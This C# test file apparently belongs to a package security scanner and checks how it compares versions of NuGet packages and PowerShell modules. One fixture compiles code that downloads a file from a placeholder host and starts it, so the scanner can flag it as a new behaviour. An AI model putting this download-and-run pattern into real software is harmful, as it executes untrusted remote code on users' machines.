using Assay.Model;
using Assay.TestInputs;
using static Assay.Scan.Tests.Comparing.VersionPair;

namespace Assay.Scan.Tests.Comparing;

/// <summary>Every line of a comparison, where it is and where it must not be.</summary>
public sealed class VersionComparerTests
{
    private static readonly byte[] Plain = Library("Console.WriteLine(input.Length);");
    private static readonly byte[] Download = Library("new WebClient().DownloadFile(\"https://files.example.invalid/a.bin\", \"a.exe\"); Process.Start(\"a.exe\");");
    private static readonly byte[] Initialiser = CSharpSample.Compile("public static class Start { [System.Runtime.CompilerServices.ModuleInitializer] public static void Begin() => System.Console.WriteLine(1); }");

    [Fact]
    public void A_package_compared_with_itself_differs_in_nothing()
    {
        var package = Package(more: "<dependencies><dependency id=\"Other\" version=\"1.0.0\"/></dependencies><repository url=\"https://example.com/a/b\"/>")
            .Add("lib/net8.0/a.dll", Download).Add("build/Sample.targets", "<Project/>").Add("tools/install.ps1", "Write-Output 1").Add("readme.txt", "text");

        var changes = Compare(package, package);

        Assert.True(changes.IsEmpty());
        Assert.Equal("same", changes.Step);
        Assert.Equal(ComparabilityStatus.Complete, changes.Comparability.Status);
        Assert.All(changes.Sizes, size => Assert.Equal(size.Before, size.After));
        Assert.Equal(5, changes.Files.Unchanged);
    }

    [Theory]
    [InlineData("1.0.0", "1.0.0", "same")]
    [InlineData("1.0.0", "2.0.0", "major")]
    [InlineData("1.0.0", "1.1.0", "minor")]
    [InlineData("1.0.0", "1.0.1", "patch")]
    [InlineData("1.0.0", "1.0.0.1", "revision")]
    [InlineData("1.0.0", "1.1.0-beta", "prerelease")]
    [InlineData("1.1.0-beta", "1.1.0", "release")]
    [InlineData("1.1.0", "1.0.0", "lower")]
    public void The_step_between_two_versions_has_a_name(string before, string after, string step) => Assert.Equal(step, Compare(Package(before), Package(after)).Step);

    [Fact]
    public void Two_ids_are_two_packages()
    {
        var changes = Compare(new NupkgBuilder(), new NupkgBuilder(NupkgBuilder.Manifest(id: "Other")));

        Assert.Equal("other-package", changes.Step);
        Assert.Equal(["Sample", "Other"], Assert.Single(changes.Origin, change => change.What == "id") is var change ? [change.Before[0], change.After[0]] : []);
    }

    [Fact]
    public void What_one_way_is_new_is_the_other_way_gone()
    {
        var before = Package().Add("lib/net8.0/a.dll", Plain).Add("old.txt", "old");
        var after = Package("1.1.0", "<dependencies><dependency id=\"Other\" version=\"1.0.0\"/></dependencies>").Add("lib/net8.0/a.dll", Download).Add("new.txt", "new");

        var (there, back) = (Compare(before, after), Compare(after, before));

        Assert.NotEmpty(there.Behaviors.New);
        Assert.Equal(there.Behaviors.New.Select(behavior => behavior.Id), back.Behaviors.Gone.Select(behavior => behavior.Id));
        Assert.Equal(there.Behaviors.Gone.Select(behavior => behavior.Id), back.Behaviors.New.Select(behavior => behavior.Id));
        Assert.Equal(there.Hosts.New.Select(host => host.Host), back.Hosts.Gone.Select(host => host.Host));
        Assert.Equal(there.Dependencies.Added.Select(dependency => dependency.Id), back.Dependencies.Removed.Select(dependency => dependency.Id));
        Assert.Equal(there.Files.Added.Select(file => file.Path), back.Files.Removed.Select(file => file.Path));
        Assert.Equal((there.Api.TypesAdded, there.Api.MembersAdded), (back.Api.TypesRemoved, back.Api.MembersRemoved));

        // Issues about the difference itself belong to the way that it is looked at.
        Assert.Equal(Ids(there.Issues.New), Ids(back.Issues.Gone));
    }

    [Theory]
    [InlineData(1)]
    [InlineData(2)]
    [InlineData(3)]
    [InlineData(4)]
    [InlineData(5)]
    public void Every_file_is_in_exactly_one_list_whatever_the_packages_hold(int seed)
    {
        var random = new Random(seed);
        for (var round = 0; round < 10; round++)
        {
            var (before, after) = (Random(random), Random(random));
            var (there, back) = (Compare(before.Package, after.Package).Files, Compare(after.Package, before.Package).Files);

            // The manifest is one more, and the same on both sides.
            Assert.Equal(after.Count + 1, there.Totals.Added + there.Totals.Changed + there.Totals.Moved + there.Unchanged);
            Assert.Equal(before.Count + 1, there.Totals.Removed + there.Totals.Changed + there.Totals.Moved + there.Unchanged);
            Assert.Equal((there.Totals.Added, there.Totals.Removed, there.Unchanged), (back.Totals.Removed, back.Totals.Added, back.Unchanged));
        }
    }

    [Fact]
    public void A_new_behavior_has_its_evidence_in_the_later_package()
    {
        var changes = Compare(Package().Add("lib/net8.0/a.dll", Plain), Package("1.0.1").Add("lib/net8.0/a.dll", Download));

        var behavior = Assert.Single(changes.Behaviors.New, behavior => behavior.Id == "downloads-and-starts-program");
        Assert.Equal(["call"], behavior.SurfacesAfter);
        Assert.Empty(behavior.SurfacesBefore);
        Assert.All(behavior.Evidence, evidence => Assert.Equal("lib/net8.0/a.dll", evidence.Artifact));
        Assert.Equal("files.example.invalid", Assert.Single(changes.Hosts.New).Host);
        Assert.True(changes.Verdict.After > changes.Verdict.Before);
        Assert.NotEmpty(changes.Verdict.NewReasons);
    }

    [Fact]
    public void A_behavior_that_begins_to_run_by_itself_is_changed_and_not_new()
    {
        const string Script = "Start-Process notepad";
        var changes = Compare(GalleryModule.Build(script: "function Get-Sample { " + Script + " }"), GalleryModule.Build(version: "1.2.1", script: "function Get-Sample { " + Script + " }\n" + Script));

        Assert.DoesNotContain(changes.Behaviors.New, behavior => behavior.Id == "starts-process");
        var changed = Assert.Single(changes.Behaviors.Changed, behavior => behavior.SurfacesAfter.Contains("import") && behavior.Category is "process" or "execution");
        Assert.DoesNotContain("import", changed.SurfacesBefore);
    }

    [Fact]
    public void An_initialiser_is_a_new_surface_and_the_same_one_for_another_framework_is_not()
    {
        var added = Assert.Single(Compare(Package().Add("lib/net8.0/a.dll", Plain), Package("1.1.0").Add("lib/net8.0/a.dll", Initialiser)).Surfaces, surface => surface.Surface == "load");

        Assert.True(added.First);
        Assert.Equal(("lib/net8.0/a.dll", false, "Start::Begin"), (added.Files[0].Artifact, added.Files[0].IsNew, Named(added.Files[0].Place)));
        Assert.Empty(Compare(Package().Add("lib/net8.0/a.dll", Initialiser), Package("1.1.0").Add("lib/net8.0/a.dll", Initialiser).Add("lib/net9.0/a.dll", Initialiser)).Surfaces);
    }

    [Fact]
    public void Build_files_and_install_scripts_are_new_surfaces()
    {
        var changes = Compare(Package(), Package("1.1.0").Add("build/Sample.targets", "<Project/>").Add("tools/install.ps1", "Write-Output 1"));

        Assert.Equal(["install", "build"], changes.Surfaces.Select(surface => surface.Surface));
        Assert.All(changes.Surfaces, surface => Assert.True(surface.First && surface.Files[0].IsNew));
        Assert.Empty(Compare(Package().Add("build/Sample.targets", "<Project/>"), Package("1.1.0").Add("buildTransitive/Sample.targets", "<Project/>")).Surfaces);
    }

    [Fact]
    public void Dependencies_are_added_removed_and_changed()
    {
        var changes = Compare(
            Package(more: "<dependencies><dependency id=\"Gone\" version=\"1.0.0\"/><dependency id=\"Kept\" version=\"1.0.0\"/><dependency id=\"Same\" version=\"2.0.0\"/></dependencies>"),
            Package("1.1.0", "<dependencies><dependency id=\"Come\" version=\"3.0.0\"/><dependency id=\"kept\" version=\"1.5.0\"/><dependency id=\"same\" version=\"2.0.0\"/></dependencies>"));

        Assert.Equal("Come 3.0.0", Assert.Single(changes.Dependencies.Added) is var added ? $"{added.Id} {added.After[0]}" : "");
        Assert.Equal("Gone 1.0.0", Assert.Single(changes.Dependencies.Removed) is var removed ? $"{removed.Id} {removed.Before[0]}" : "");
        Assert.Equal("kept 1.0.0 1.5.0", Assert.Single(changes.Dependencies.Changed) is var changed ? $"{changed.Id} {changed.Before[0]} {changed.After[0]}" : "");
    }

    [Fact]
    public void Files_are_added_removed_changed_and_moved()
    {
        var changes = Compare(
            Package().Add("a.txt", "kept").Add("b.txt", "old").Add("c.txt", "moved").Add("d.txt", "gone").Add("tools/1.0.0/e.txt", "first"),
            Package("1.1.0").Add("a.txt", "kept").Add("b.txt", "new").Add("e/c.txt", "moved").Add("f.txt", "come").Add("tools/1.1.0/e.txt", "second"));

        var files = changes.Files;
        Assert.Equal(["f.txt"], files.Added.Select(file => file.Path));
        Assert.Equal(["d.txt"], files.Removed.Select(file => file.Path));
        Assert.Equal(["Sample.nuspec", "b.txt", "tools/1.1.0/e.txt"], files.Changed.Select(file => file.Path));
        Assert.Equal("tools/1.0.0/e.txt", files.Changed[2].PathBefore);
        Assert.Equal(("e/c.txt", "c.txt"), (files.Moved[0].Path, files.Moved[0].PathBefore));
        Assert.Equal((1, 1, 3, 1, 1), (files.Totals.Added, files.Totals.Removed, files.Totals.Changed, files.Totals.Moved, files.Unchanged));
        Assert.Equal(files.Totals.Added + files.Totals.Changed, files.Kinds.Sum(kind => kind.Added + kind.Changed));
    }

    [Fact]
    public void A_file_that_became_something_else_says_what_it_was()
    {
        var changes = Compare(Package().Add("content/data.bin", "only text"), Package("1.0.1").Add("content/data.bin", Plain));

        var file = Assert.Single(changes.Files.Changed, file => file.KindBefore is not null);
        Assert.Equal((ArtifactKind.Text, ArtifactKind.ManagedAssembly), (file.KindBefore, file.Kind));
    }

    [Fact]
    public void What_a_package_tool_writes_anew_is_no_difference()
    {
        var changes = Compare(Package().Add("package/services/metadata/core-properties/1.psmdcp", "<coreProperties/>"), Package().Add("package/services/metadata/core-properties/2.psmdcp", "<coreProperties a=\"1\"/>"));

        Assert.Equal((0, 0, 0, 0), (changes.Files.Totals.Added, changes.Files.Totals.Removed, changes.Files.Totals.Changed, changes.Files.Totals.Moved));
    }

    [Fact]
    public void Public_types_and_members_are_counted_by_namespace()
    {
        var before = CSharpSample.Compile("namespace N { public class A { public int X; public void F(int a) {} } public class Gone {} class Hidden {} }");
        var after = CSharpSample.Compile("namespace N { public class A { public int X; public void F(int a) {} public void F(int a, int b) {} public string P { get; set; } protected event System.Action E; private void G() {} } class Hidden { public void H() {} } } namespace M { public enum Come { One, Two } }");

        var api = Compare(Package().Add("lib/net8.0/a.dll", before), Package("1.1.0").Add("lib/net8.0/a.dll", after)).Api;

        Assert.True(api.Compared);
        Assert.Equal(["M.Come"], api.Added);
        Assert.Equal(["N.Gone"], api.Removed);

        // The two values of the enumeration; the overload, the property and the event; the constructor of what is gone.
        Assert.Equal(["M +1 -0 +2 -0", "N +0 -1 +3 -1"], api.Namespaces.Select(space => $"{space.Name} +{space.TypesAdded} -{space.TypesRemoved} +{space.MembersAdded} -{space.MembersRemoved}"));
    }

    [Fact]
    public void The_same_library_for_one_more_framework_adds_no_members()
    {
        var library = CSharpSample.Compile("public class A { public void F() {} public void F(int a) {} }");

        var api = Compare(Package().Add("lib/net8.0/a.dll", library), Package("1.1.0").Add("lib/net8.0/a.dll", library).Add("lib/net9.0/a.dll", CSharpSample.Compile("public class A { public void F() {} public void F(int a) {} } class B {}"))).Api;

        Assert.Equal((0, 0), (api.TypesAdded, api.MembersAdded));
    }

    [Fact]
    public void Functions_of_a_module_are_compared()
    {
        var api = Compare(GalleryModule.Build(script: "function Get-Sample { 1 }\nfunction Get-Old { 1 }"), GalleryModule.Build(version: "1.3.0", script: "function Get-Sample { 1 }\nfunction Get-New { 1 }")).Api;

        Assert.Equal(["Get-New"], api.Added);
        Assert.Equal(["Get-Old"], api.Removed);
        Assert.Equal((1, 1), (api.FunctionsAdded, api.FunctionsRemoved));
    }

    [Fact]
    public void Authors_repository_and_licence_are_compared()
    {
        static string Nuspec(string authors, string more) => NupkgBuilder.Manifest(more: more).Replace("<authors>Somebody</authors>", $"<authors>{authors}</authors>", StringComparison.Ordinal);
        var before = new NupkgBuilder(Nuspec("Somebody", "<license type=\"expression\">MIT</license><repository url=\"https://github.com/one/sample.git\"/>"));
        var after = new NupkgBuilder(Nuspec("Another", "<license type=\"expression\">GPL-3.0-only</license><repository url=\"https://github.com/two/sample\"/>"));

        var changes = Compare(before, after);

        Assert.Equal(["authors", "repository", "license", "license-family"], changes.Origin.Select(change => change.What));
        Assert.Equal(("MIT", "GPL-3.0-only"), (changes.Origin[2].Before[0], changes.Origin[2].After[0]));
    }

    [Fact]
    public void An_unread_part_is_not_comparable_and_never_the_same()
    {
        var broken = new NupkgBuilder().Add(new RawEntry("lib/net8.0/a.dll", Plain) { Crc = 1 }).Build();
        var whole = new NupkgBuilder().Add("lib/net8.0/a.dll", Download).Build();

        var later = Compare(whole, broken).Comparability;
        var earlier = Compare(broken, whole).Comparability;

        Assert.Equal((ComparabilityStatus.Partial, true, false), (later.Status, later.BeforeComplete, later.AfterComplete));
        Assert.Equal((ComparabilityStatus.Partial, false, true), (earlier.Status, earlier.BeforeComplete, earlier.AfterComplete));
        Assert.Contains(later.Limits, limit => limit is { Side: "after", Problem: "zip-crc-mismatch" } && limit.Text.Contains("lib/net8.0/a.dll", StringComparison.Ordinal));
        Assert.Equal(ComparabilityStatus.None, Compare(whole, [.. "PK\u0003\u0004 no package"u8]).Comparability.Status);
    }

    [Fact]
    public void An_assembly_without_readable_members_is_not_compared()
    {
        var api = Compare(Package().Add("lib/net8.0/a.dll", Plain), Package().Add("lib/net8.0/a.dll", Plain[..(Plain.Length / 2)])).Api;

        Assert.False(api.Compared);
        Assert.Equal(0, api.TypesRemoved);
    }

    private static (NupkgBuilder Package, int Count) Random(Random random)
    {
        var package = Package();
        var count = random.Next(0, 12);
        foreach (var number in Enumerable.Range(0, 20).OrderBy(_ => random.Next()).Take(count))
        {
            package.Add($"tools/{random.Next(1, 3)}.0.{random.Next(2)}/{number}.txt", $"text {random.Next(6)}");
        }

        return (package, count);
    }

    private static IEnumerable<string> Ids(IEnumerable<ChangedIssue> issues) => issues.Where(issue => issue.Category != "difference").Select(issue => issue.Id);

    private static string? Named(string? place) => place;
}
